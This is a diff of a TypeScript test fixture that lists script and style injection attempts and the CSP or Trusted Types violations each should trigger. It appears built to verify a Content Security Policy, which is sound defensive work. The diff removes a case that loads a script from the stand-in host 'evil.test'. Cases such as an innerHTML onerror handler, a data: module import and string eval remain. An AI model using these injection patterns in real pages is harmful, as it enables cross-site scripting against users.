@@ -8,13 +8,6 @@ export interface InjectionAttempt {
 
 export const scriptInjections: InjectionAttempt[] = [
   {
-    name: 'HTML from a string, with an inline style',
-    act: () => {
-      document.body.insertAdjacentHTML('beforeend', '<p style="opacity:0">x</p>')
-    },
-    complaint: /require-trusted-types-for.*insertAdjacentHTML/,
-  },
-  {
     name: 'innerHTML with a handler',
     act: () => {
       document.createElement('div').innerHTML = '<img src=x onerror="globalThis.injected = true">'
@@ -31,15 +24,6 @@ export const scriptInjections: InjectionAttempt[] = [
     complaint: /policy violation \(enforce\): (require-trusted-types-for|script-src-elem)/,
   },
   {
-    name: 'a <script> from elsewhere',
-    act: () => {
-      const script = document.createElement('script')
-      script.src = 'https://evil.test/injected.js'
-      document.head.append(script)
-    },
-    complaint: /require-trusted-types-for.*HTMLScriptElement src/,
-  },
-  {
     name: 'a module from a data address',
     act: () => import(['data:text/javascript', 'globalThis.injected = true'].join()),
     complaint: /policy violation \(enforce\): script-src-elem data/,
@@ -52,20 +36,6 @@ export const scriptInjections: InjectionAttempt[] = [
       setTimeout(() => run('globalThis.injected = true'))
     },
     complaint: /policy violation \(enforce\): (require-trusted-types-for|script-src).* eval/,
-  },
-  {
-    name: 'a timer from a string',
-    act: () => {
-      Reflect.apply(setTimeout, globalThis, ['globalThis.injected = true', 0])
-    },
-    complaint: /policy violation \(enforce\): require-trusted-types-for.*setTimeout/,
-  },
-  {
-    name: 'a worker from elsewhere',
-    act: () => {
-      new Worker('/injected.js').terminate()
-    },
-    complaint: /policy violation \(enforce\): require-trusted-types-for.*Worker/,
   },
   {
     name: 'a Trusted Types policy of its own',
@@ -88,16 +58,6 @@ export const contentInjections: InjectionAttempt[] = [
       if (getComputedStyle(document.body).opacity === '0') Reflect.set(globalThis, 'injected', true)
     },
     complaint: /policy violation \(enforce\): style-src-attr inline/,
-  },
-  {
-    name: 'a <style>',
-    act: () => {
-      const style = document.createElement('style')
-      style.append('body { opacity: 0 }')
-      document.head.append(style)
-      if (getComputedStyle(document.body).opacity === '0') Reflect.set(globalThis, 'injected', true)
-    },
-    complaint: /policy violation \(enforce\): style-src-elem inline/,
   },
   {
     name: 'a call to elsewhere',
